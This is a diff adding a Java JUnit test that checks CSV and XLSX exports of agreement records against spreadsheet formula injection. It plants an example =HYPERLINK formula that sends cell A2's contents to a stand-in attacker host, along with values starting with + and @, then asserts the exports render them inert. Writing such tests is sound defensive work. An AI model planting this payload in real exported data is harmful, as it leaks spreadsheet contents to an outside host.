@@ -5,6 +5,7 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.io.ByteArrayInputStream;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.Collections;
@@ -14,6 +15,7 @@ import java.sql.PreparedStatement;
 import java.sql.ResultSet;
 import java.util.List;
 import java.util.Map;
+import java.util.UUID;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipFile;
 
@@ -21,6 +23,9 @@ import javax.sql.DataSource;
 
 import jakarta.inject.Inject;
 
+import org.dhatim.fastexcel.reader.CellType;
+import org.dhatim.fastexcel.reader.ReadableWorkbook;
+import org.dhatim.fastexcel.reader.Row;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
@@ -139,6 +144,44 @@ class DirectorateTest {
         String csv = new String(r.asByteArray(), StandardCharsets.UTF_8);
         assertTrue(csv.contains(fx.g2Ref() + ";CENTER_MANAGEMENT;ACTIVE;CS;Stats A2;" + fx.a2Reg()), csv);
         assertFalse(csv.contains(fx.g1Ref()), "another academy's agreement is out of scope");
+    }
+
+    @Test
+    void exportedTextThatLooksLikeAFormulaIsInert() throws Exception {
+        UUID association = UUID.randomUUID();
+        String name = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"ok\")";
+        String reference = "+ST-G3-" + fx.suffix;
+        String registration = "@ST-A3-" + fx.suffix;
+        try (Connection c = dataSource.getConnection()) {
+            StatsFixture.exec(c, "INSERT INTO association (id, registration_number, name, province_code) VALUES (?, ?, ?, 'CAS')",
+                    association, registration, name);
+            StatsFixture.exec(c, "INSERT INTO agreement (reference, kind, status, academy_code, association_id, starts_on, ends_on, "
+                    + "budget, target_beneficiaries) VALUES (?, 'FRAMEWORK', 'DRAFT', 'CS', ?, ?, ?, 1000, 10)", reference,
+                    association, fx.today, fx.today.plusDays(1000));
+        }
+        Response csv = given().header("Authorization", "Bearer " + Tokens.admin())
+                .get("/exports/agreements.csv?associationId=" + association);
+        assertEquals(200, csv.statusCode());
+        String[] lines = new String(csv.asByteArray(), StandardCharsets.UTF_8).split("\r\n");
+        assertEquals(2, lines.length);
+        assertTrue(lines[1].startsWith("'" + reference + ";FRAMEWORK;DRAFT;CS;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,"
+                + "\"\"ok\"\")\";'" + registration + ";;"), lines[1]);
+
+        Response xlsx = given().header("Authorization", "Bearer " + Tokens.admin())
+                .get("/exports/agreements.xlsx?associationId=" + association);
+        assertEquals(200, xlsx.statusCode());
+        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx.asByteArray()))) {
+            List<Row> rows = wb.getFirstSheet().read();
+            assertEquals(2, rows.size());
+            Row row = rows.get(1);
+            assertEquals(CellType.STRING, row.getCell(0).getType());
+            assertEquals("'" + reference, row.getCell(0).asString());
+            assertEquals(CellType.STRING, row.getCell(4).getType());
+            assertEquals("'" + name, row.getCell(4).asString());
+            assertEquals("'" + registration, row.getCell(5).asString());
+            assertEquals(CellType.NUMBER, row.getCell(9).getType(), "the budget stays a number");
+        }
+        assertFalse(sheet(xlsx.asByteArray()).contains("<f>"), "no formula in the sheet");
     }
 
     @Test
